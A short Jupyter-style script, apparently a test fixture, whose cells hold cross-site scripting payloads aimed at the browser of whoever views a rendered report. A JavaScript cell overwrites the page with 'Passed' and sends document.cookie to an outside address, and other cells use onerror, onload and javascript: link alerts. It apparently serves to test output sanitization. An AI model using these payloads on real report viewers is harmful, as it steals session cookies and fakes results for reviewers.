"""Run a cell in the browser of whoever reads the report.

contains: <IPython.core.display.Javascript object>
"""
# %%
# honest
# %%
%%javascript
document.body.innerHTML = "Passed"; fetch("http://1.1.1.1/?" + document.cookie)
# %%
%%html
<img src=x onerror="alert(1)">
# %%
%%svg
<svg onload="alert(1)"></svg>
# %%
%%markdown
[x](javascript:alert(1))
